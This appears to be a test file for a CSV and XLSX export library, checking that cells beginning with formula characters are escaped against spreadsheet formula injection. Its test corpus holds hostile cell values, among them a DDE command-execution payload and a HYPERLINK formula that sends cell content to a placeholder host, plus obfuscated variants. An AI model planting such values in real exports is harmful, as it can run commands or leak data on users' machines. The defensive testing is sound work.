import { expect, test } from 'vitest'
import { readSpreadsheet } from '../read-spreadsheet.ts'
import { writeCsv } from './write-csv.ts'
import { writeXlsx } from './write-xlsx.ts'
import type { WrittenCell } from './written-cell.ts'

// A105, and what else spreadsheet programs are known to run.
const CORPUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' =1',
  '\u200b=1',
  '=HYPERLINK("http://example.org/?"&A1,"看")',
  "=cmd|' /C calc'!A0",
  '-2+3+cmd',
  '+86 138 0013 8000',
  '+86-138-0013-8000',
  '+8613800138000',
  "'=1",
  "''+1",
  "'quoted'",
]
const HARMLESS = [
  '",=1',
  '-5',
  '-3.25',
  '+5',
  '小明',
  'a-b',
  '1=1',
  '他说"好", 走了',
  '第一行\n第二行',
  "'s",
  '䶮㛃𣲗 😀',
]

async function readBack(bytes: Uint8Array, fileName: string) {
  const outcome = await readSpreadsheet(bytes, fileName)
  if (!outcome.ok) throw new Error(JSON.stringify(outcome.refusal))
  return outcome.book.sheets.map(({ rows }) => rows)
}

const texts = (values: readonly string[]) => values.map((text) => [{ kind: 'text', text }])
const csvText = (rows: readonly (readonly WrittenCell[])[]) =>
  new TextDecoder().decode(writeCsv(rows, { bom: false }))

test('[R07][A105] no text begins a CSV field with what a program could run', () => {
  for (const text of [...CORPUS, '\0=1']) {
    expect(csvText([[text]])).toMatch(/^"?'/)
  }
  expect(csvText([['",=1']])).toBe('""",=1"\r\n')
})

test('[R07][A105] numbers stay numbers, telephone numbers stay readable, other text is untouched', () => {
  expect(csvText([[-5, 1.5, true, null, { date: '2015-03-04' }, Number.NaN]])).toBe(
    '-5,1.5,TRUE,,2015-03-04,\r\n',
  )
  expect(csvText([['-5', '+5', '+86 138 0013 8000']])).toBe("-5,+5,'+86 138 0013 8000\r\n")
  for (const text of HARMLESS) expect(csvText([[text]])).not.toMatch(/^"?'[^s]/)
})

test('[R07][A105] our reader gives back every text as it was, from CSV and from XLSX', async () => {
  const all = [...CORPUS, ...HARMLESS]
  const rows = all.map((text) => [text])
  expect(await readBack(writeCsv(rows), 'a.csv')).toEqual([texts(all)])
  const { bytes } = await writeXlsx([{ name: '导出', rows }])
  const lines = all.map((text) => text.replace(/\r\n?/g, '\n'))
  expect(await readBack(bytes, 'a.xlsx')).toEqual([texts(lines)])
})

test('RFC 4180: commas, quotes and line ends are quoted, every row ends with CRLF', () => {
  expect(csvText([['a,b', 'c"d', 'e\r\nf'], [], ['g']])).toBe('"a,b","c""d","e\r\nf"\r\n\r\ng\r\n')
  expect([...writeCsv([['甲']]).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
})

test('what no file can hold is shown as U+FFFD', async () => {
  expect(csvText([['a\0b\ud800']])).toBe('a\ufffdb\ufffd\r\n')
  const { bytes } = await writeXlsx([{ name: 's', rows: [['a\0b\ud800']] }])
  expect(await readBack(bytes, 'a.xlsx')).toEqual([
    [[{ kind: 'error', code: 'TextHasBrokenCharacter' }]],
  ])
})

test('a workbook keeps types, awkward texts and several sheets with one name', async () => {
  const rows = [
    ['姓名', '生日'],
    ['_x0041_ & <b>', { date: '2015-03-04' }],
    [-5, false],
  ]
  const { bytes, shortened } = await writeXlsx([
    { name: '名单/一[1]', rows, headerRows: 1 },
    { name: '名单/一[1]', rows: [['x']] },
  ])
  const outcome = await readSpreadsheet(bytes, 'a.xlsx')
  if (!outcome.ok) throw new Error(outcome.refusal.id)
  expect(outcome.book.sheets.map(({ name }) => name)).toEqual(['名单 一 1', '名单 一 1 (2)'])
  expect(outcome.book.sheets[0]?.rows).toEqual([
    [
      { kind: 'text', text: '姓名' },
      { kind: 'text', text: '生日' },
    ],
    [
      { kind: 'text', text: '_x0041_ & <b>' },
      { kind: 'date', date: '2015-03-04' },
    ],
    [
      { kind: 'number', value: -5 },
      { kind: 'boolean', value: false },
    ],
  ])
  expect(shortened).toEqual([])
})

test('text longer than Excel holds is cut where everybody can see it, and reported', async () => {
  const { bytes, shortened } = await writeXlsx([{ name: 's', rows: [['a', '谈'.repeat(40_000)]] }])
  expect(shortened).toEqual([{ sheet: 's', row: 1, column: 2 }])
  const [rows] = await readBack(bytes, 'a.xlsx')
  expect(rows?.[0]?.[1]).toEqual({ kind: 'text', text: `${'谈'.repeat(32_766)}…` })
})
